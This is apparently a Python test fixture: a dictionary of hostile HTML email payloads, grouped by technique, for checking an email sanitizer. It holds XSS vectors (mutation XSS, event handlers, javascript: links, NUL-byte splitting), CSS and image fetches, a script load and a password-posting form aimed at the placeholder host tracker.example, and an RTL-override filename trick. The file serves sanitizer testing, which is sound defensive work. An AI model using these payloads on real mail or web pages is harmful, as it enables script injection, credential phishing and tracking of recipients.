"""Mails made to do harm in a browser, by what they try. What they would load is on `tracker.example`."""

NASTY = {
    "script": "<script>alert(1)</script><SCRIPT/SRC=//tracker.example/x.js></SCRIPT>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "event handlers": (
        "<p onclick=alert(1) onmouseover='alert(1)'>x</p><img src=x onerror=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)>"
    ),
    "svg": (
        "<svg onload=alert(1)><script>alert(1)</script><image href='http://tracker.example/x.png'/>"
        "<use href='data:image/svg+xml,x#a'/></svg>"
    ),
    "svg mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "math mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "form mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "comment mutation": "<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>-->",
    "template": "<template><script>alert(1)</script></template>",
    "xmp and plaintext": (
        "<xmp><script>alert(1)</script></xmp><listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing><plaintext><script>alert(1)"
    ),
    "css fetches": (
        '<p style="background:url(http://tracker.example/a.png)">x</p>'
        "<p style=\"background-image:u\\72l('http://tracker.example/b')\">x</p><p style='width:expression(alert(1))'>x</p>"
        "<p style='behavior:url(#x);-moz-binding:url(http://tracker.example/x)'>x</p>"
    ),
    "css covers": "<div style='position:fixed;top:0;left:0;z-index:9;color:red'>x</div>",
    "style sheets": (
        "<style>@import url(http://tracker.example/x.css);body{display:none}</style><link rel=stylesheet href=http://tracker.example/x.css>"
    ),
    "refresh and base": (
        "<meta http-equiv=refresh content='0;url=http://tracker.example/'><base href=http://tracker.example/><a href=x>x</a>"
    ),
    "frames": (
        "<iframe src=http://tracker.example/></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe><frameset>"
        "<frame src=http://tracker.example/>"
    ),
    "objects": "<object data=http://tracker.example/x></object><embed src=http://tracker.example/x><applet code=x></applet>",
    "forms": (
        "<form action=http://tracker.example/><input name=password type=password>"
        "<button formaction=http://tracker.example/>Go</button></form>"
    ),
    "links": (
        "<a href='javascript:alert(1)'>a</a><a href='java&#10;script:alert(1)'>b</a><a href='data:text/html,<script>alert(1)"
        "</script>'>c</a><a href='vbscript:x'>d</a><a href='\x01javascript:alert(1)'>e</a><a href='//tracker.example/'>f</a>"
        "<a href='/signout'>g</a><a href='file:///etc/passwd'>h</a>"
    ),
    "images": (
        "<img src=http://tracker.example/1.gif width=1 height=1><img srcset='http://tracker.example/2.gif 2x'><picture>"
        "<source srcset=http://tracker.example/3><img src=//tracker.example/4></picture><img src=cid:logo alt=Logo>"
        "<img src='data:image/svg+xml;base64,PHN2Zz4='><table background=http://tracker.example/5><td>x</table>"
    ),
    "media": (
        "<video src=http://tracker.example/x autoplay poster=http://tracker.example/y></video>"
        "<audio src=http://tracker.example/z autoplay></audio>"
    ),
    "prefetch": "<link rel=dns-prefetch href=http://tracker.example><link rel=preload as=image href=http://tracker.example/x>",
    "direction": "<p>invoice&#x202e;fdp.exe</p><bdo dir=rtl>x</bdo>",
    "clobbering": "<a id=location name=cookie href=http://a.example/>x</a><img name=body>",
    "cut in the middle": '<p>text<a href="http://a.example/' + "x" * 50,
    "nul": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x one\x00rror=alert(1)>",
    "processing": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]><![CDATA[<script>alert(1)</script>]]>&a;",
    "details of tables": "<table><script>alert(1)</script><tr><td onclick=alert(1)><img src=x onerror=alert(1)></table>",
}
